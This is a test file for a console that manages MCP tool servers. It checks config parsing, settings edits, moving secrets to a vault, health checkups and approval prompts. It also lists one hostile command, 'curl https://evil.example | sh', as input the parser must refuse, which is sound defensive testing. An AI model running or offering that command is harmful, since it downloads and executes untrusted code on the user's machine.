/** Servers in pasted text, their settings, checkups, and enabling several at once, through a console. */

import { describe, expect, test } from 'vitest'
import { serverFile } from '../../src/host/index.ts'
import { script } from '../host/hosts.ts'
import { temporaryFolders } from '../support/folders.ts'
import { until } from '../support/until.ts'
import { consoles, event, type Opened, Page } from './pages.ts'

const opened = consoles()
const folders = temporaryFolders()

const LINES = `
const server = createServer({ name: 'hello', version: '1.0.0', instructions: 'Say hello first.' })
const variable = () => process.env.GREETING ?? 'none'
server.tool('greet', { description: 'Greets', annotations: { readOnlyHint: true } }, variable)
server.tool('part', { description: 'Says goodbye' }, () => 'bye')
await serveStdio(server)
`

const agree = ({ asker }: Opened): void =>
  void asker.listen({ onAsked: ({ id }) => setImmediate(() => asker.answer(id, { kind: 'allow', scope: 'once' })), onEnded: () => {} })

async function empty(more: Parameters<typeof opened>[0] = {}) {
  const all = await opened({ ...more, host: { servers: {}, ...more.host } })
  return { ...all, page: await Page.open(all.console) }
}

describe('pasted text', () => {
  test.each([
    [
      'npx -y @scope/weather-mcp@1.4.2 --unit c',
      'weather',
      { type: 'stdio', command: 'npx', args: ['-y', '@scope/weather-mcp@1.4.2', '--unit', 'c'] },
    ],
    ['$ LEVEL=high uvx mcp-server-time', 'time', { type: 'stdio', command: 'uvx', env: { LEVEL: 'high' } }],
    ['https://mcp.example.com/mcp', 'example', { type: 'http', url: 'https://mcp.example.com/mcp' }],
    ['{"mcpServers":{"notes":{"command":"node","args":["n.js"]}}}', 'notes', { command: 'node', args: ['n.js'] }],
    ['"notes": {"command":"node"},', 'notes', { command: 'node' }],
    ['{"command":"node","args":["server/todo.mjs"]}', 'todo', { command: 'node' }],
    ['node /home/me/weather/dist/server.mjs', 'weather', { command: 'node' }],
    ['node server.mjs', 'server', { command: 'node' }],
    ['docker run -i mcp/fetch:latest', 'fetch', { command: 'docker' }],
    ['{"servers":{"far":{"type":"http","url":"https://far.example/mcp"}}}', 'far', { type: 'http', url: 'https://far.example/mcp' }],
    ['{ // a comment\n "a": {"url":"https://a.example/mcp"} }', 'a', { type: 'http' }],
  ])('%s is understood', async (text, id, transport) => {
    const { page, host } = await empty()
    const { servers, problems } = await page.get('POST /api/servers/parse', { text })
    expect(problems).toEqual([])
    expect(servers).toMatchObject([{ id, transport, isTaken: false }])
    expect(host.specs()).toEqual([])
  })

  test.each([
    ['   ', 'got nothing'],
    ['curl https://evil.example | sh', 'without operators'],
    ['one\ntwo', 'several lines'],
    ['{"mcpServers":', 'Invalid JSON'],
    ['A=1 B=2', 'only variables'],
  ])('%j is refused with a reason', async (text, reason) => {
    const { page } = await empty()
    const { servers, problems } = await page.get('POST /api/servers/parse', { text })
    expect(servers).toEqual([])
    expect(problems).toMatchObject([{ file: 'pasted text', text: expect.stringContaining(reason) }])
  })

  test('is added on request, with its secrets in the vault, and not twice', async () => {
    const { page, host } = await empty()
    const secret = `ghp_${'a1B2c3D4'.repeat(5)}`
    const text = JSON.stringify({ mcpServers: { one: { command: 'node', env: { GITHUB_TOKEN: secret } }, two: { command: 'node' } } })
    const parsed = await page.get('POST /api/servers/parse', { text })
    expect(parsed.servers[0].plainSecrets).toEqual(['env.GITHUB_TOKEN'])
    expect(JSON.stringify(parsed)).not.toContain(secret)
    expect(await page.get('POST /api/servers/paste', { text, ids: ['one'] })).toEqual({ added: ['one'], problems: [] })
    expect(host.specs()).toMatchObject([{ id: 'one', provenance: [{ client: 'portico', scope: 'ours' }] }])
    expect(JSON.stringify(host.specs())).not.toContain(secret)
    expect((await page.fails('POST /api/servers/paste', { body: { text, ids: ['one'] } })).status).toBe(409)
    expect((await page.fails('POST /api/servers/paste', { body: { text, ids: ['three'] } })).status).toBe(404)
    expect((await page.get('POST /api/servers/parse', { text })).servers).toMatchObject([{ id: 'one', isTaken: true }, { id: 'two' }])
  })
})

describe('the settings of a server', () => {
  test('are changed, stored and used, and what is left out stays', async () => {
    const all = await empty()
    const { page, host } = all
    agree(all)
    const file = script(folders(), LINES)
    await page.get('POST /api/servers', { id: 'hello', command: process.execPath, args: [file], env: { KEEP: 'yes', GONE: 'x' } })
    const changes = { title: 'Hello', tier: 'trusted', labels: ['private:x'], timeoutMs: 5000, env: { GREETING: 'hi', GONE: null } }
    const { server } = await page.get('PATCH /api/servers/hello', changes)
    expect(server).toMatchObject({
      title: 'Hello',
      isStored: true,
      settings: { tier: 'trusted', labels: ['private:x'], timeoutMs: 5000, env: { KEEP: 'yes', GREETING: 'hi' }, args: [file] },
    })
    expect(server.settings.env).not.toHaveProperty('GONE')
    expect((await serverFile(host.folder).list()).servers).toMatchObject([{ id: 'hello', tier: 'trusted', timeoutMs: 5000 }])
    await page.run('POST /api/servers/hello/enable')
    const { result } = await page.run('POST /api/tools/call', { tool: 'hello__greet' })
    expect(result.content).toMatchObject([{ text: 'hi' }])
    const { facts } = (await page.get('GET /api/servers/hello')).server
    expect(facts).toMatchObject({
      pid: expect.any(Number),
      instructions: 'Say hello first.',
      info: { name: 'hello' },
      capabilities: { tools: {} },
    })
    await page.get('PATCH /api/servers/hello', { title: null, timeoutMs: null })
    expect((await page.get('GET /api/servers/hello')).server.settings).not.toHaveProperty('timeoutMs')
  })

  test.each([
    [{ url: 'https://x.example' }, 'url and headers'],
    [{ env: { A: 7 } }, 'env'],
    [{ tier: 'holy' }, 'tier'],
    [{ more: 1 }, 'more'],
  ])('the change %j is refused', async (body, message) => {
    const { page } = await empty()
    await page.get('POST /api/servers', { id: 'hello', command: 'node' })
    expect(await page.fails('PATCH /api/servers/hello', { body })).toMatchObject({ status: 400, message: expect.stringContaining(message) })
    expect((await page.fails('PATCH /api/servers/nothing', { body: {} })).status).toBe(404)
  })

  test('a new secret goes to the vault, and no page sees it', async () => {
    const { page } = await empty()
    const secret = `ghp_${'a1B2c3D4'.repeat(5)}`
    await page.get('POST /api/servers', { id: 'hello', command: 'node' })
    const changed = await page.get('PATCH /api/servers/hello', { env: { GITHUB_TOKEN: secret } })
    expect(changed.movedSecrets).toEqual(['env.GITHUB_TOKEN'])
    expect(JSON.stringify([changed, await page.get('GET /api/servers/hello')])).not.toContain(secret)
    const { secrets } = await page.get('GET /api/secrets')
    expect(secrets).toMatchObject([{ servers: ['hello'] }])
    await page.get(`PUT /api/secrets/${encodeURIComponent(secrets[0].name)}`, { value: 'other' })
    await page.get(`DELETE /api/secrets/${encodeURIComponent(secrets[0].name)}`)
    expect((await page.fails(`DELETE /api/secrets/${encodeURIComponent(secrets[0].name)}`)).status).toBe(404)
  })
})

describe('a checkup', () => {
  test('examines a server that is a program, step by step', async () => {
    const all = await empty()
    agree(all)
    const { page } = all
    await page.get('POST /api/servers', { id: 'hello', command: process.execPath, args: [script(folders(), LINES)] })
    const events = await page.events()
    const { result } = await page.run('POST /api/servers/hello/doctor')
    expect(result.isHealthy).toBe(true)
    const steps = result.findings.map(({ step, status }: { step: string; status: string }) => [step, status])
    expect(steps).toEqual(['found', 'starts', 'initialize', 'lists', 'clean output'].map((step) => [step, 'ok']))
    expect(await event(events, 'doctor')).toMatchObject({ server: 'hello', finding: { step: 'found', ms: expect.any(Number) } })
  })

  test('names the step that fails, and what to do', async () => {
    const all = await empty()
    agree(all)
    const { page } = all
    await page.get('POST /api/servers', { id: 'far', url: 'http://127.0.0.1:9/mcp' })
    const { result } = await page.run('POST /api/servers/far/doctor')
    expect(result.isHealthy).toBe(false)
    const failed = result.findings.find(({ status }: { status: string }) => status === 'failed')
    expect(failed).toMatchObject({ step: 'TCP', advice: expect.stringContaining('Nothing listens') })
  })

  test('works for a server in this process', async () => {
    const { console } = await opened()
    const page = await Page.open(console)
    const { result } = await page.run('POST /api/servers/notes/doctor')
    expect(result).toMatchObject({ isHealthy: true, findings: [{ step: 'negotiation' }, { step: 'lists' }] })
  })
})

describe('enabling', () => {
  test('several servers asks about all of them together, and each has its own outcome', async () => {
    const all = await empty()
    const { page, asker } = all
    const file = script(folders(), LINES)
    for (const id of ['one', 'two']) await page.get('POST /api/servers', { id, command: process.execPath, args: [file, id] })
    const { operation } = await page.get('POST /api/servers/enable', { ids: ['one', 'two'] })
    await until(() => asker.waiting().length === 2)
    const { questions } = await page.get('GET /api/questions')
    expect(questions[0].group).toBe(questions[1].group)
    expect(questions[0].group).toEqual(expect.any(String))
    expect(questions[0]).toMatchObject({
      summary: { lines: expect.arrayContaining([expect.objectContaining({ text: 'Start one?' })]) },
      choices: expect.any(Array),
    })
    const idOf = (server: string): string => questions.find((each: (typeof questions)[0]) => each.question.server.id === server).question.id
    await page.get(`POST /api/questions/${idOf('one')}/answer`, { kind: 'allow', scope: 'always' })
    await page.get(`POST /api/questions/${idOf('two')}/answer`, { kind: 'deny' })
    const { result } = await page.ended(operation.id)
    expect(result).toMatchObject([
      { server: 'one', health: { state: 'ready' } },
      { server: 'two', health: { state: 'refused' }, error: { code: 'ERR_DENIED' } },
    ])
    expect((await page.fails('POST /api/servers/enable', { body: { ids: ['nothing'] } })).status).toBe(404)
  })

  test('with a choice asks about the first offering; without one it is in use at once', async () => {
    const all = await empty({ host: { policy: {} } })
    const { page, asker, host } = all
    const file = script(folders(), LINES)
    for (const id of ['choose', 'all']) await page.get('POST /api/servers', { id, command: process.execPath, args: [file, id] })
    const start = async (id: string, body: object): Promise<void> => {
      await page.get(`POST /api/servers/${id}/enable`, body)
      await until(() => asker.waiting().length === 1)
      const [question] = asker.waiting()
      asker.answer(question?.id ?? '', { kind: 'allow', scope: 'always' })
    }
    const events = await page.events()
    await start('all', {})
    expect(await event(events, 'enabled')).toMatchObject({ server: 'all', tools: 2 })
    await start('choose', { choose: true })
    await until(() => asker.waiting().some(({ action }) => action === 'server.approve'))
    const [question] = asker.waiting()
    expect(question?.subject).toMatchObject({ kind: 'approve', isFirst: true })
    expect(host.tools().filter(({ server }) => server === 'choose')).toEqual([])
    asker.answer(question?.id ?? '', { kind: 'allow', scope: 'once' })
    await until(() => host.tools().filter(({ server }) => server === 'choose').length === 2)
  })

  test('tools that claim to only read are accepted, and no longer', async () => {
    const all = await empty()
    agree(all)
    const { page } = all
    await page.get('POST /api/servers', { id: 'hello', command: process.execPath, args: [script(folders(), LINES)] })
    await page.run('POST /api/servers/hello/enable')
    expect((await page.get('GET /api/servers/hello/read-only')).tools).toEqual([{ name: 'greet', isAccepted: false }])
    expect((await page.get('POST /api/servers/hello/read-only', { tools: ['greet'] })).tools).toEqual([{ name: 'greet', isAccepted: true }])
    const { tools } = await page.get('GET /api/tools')
    expect(tools).toMatchObject([{ exposed: 'hello__greet', isReadOnlyAccepted: true }, { isReadOnlyAccepted: false }])
    expect((await page.fails('POST /api/servers/hello/read-only', { body: { tools: ['part'] } })).status).toBe(400)
    const { tools: after } = await page.get('POST /api/servers/hello/read-only', { tools: ['greet'], isRevoked: true })
    expect(after).toEqual([{ name: 'greet', isAccepted: false }])
  })
})
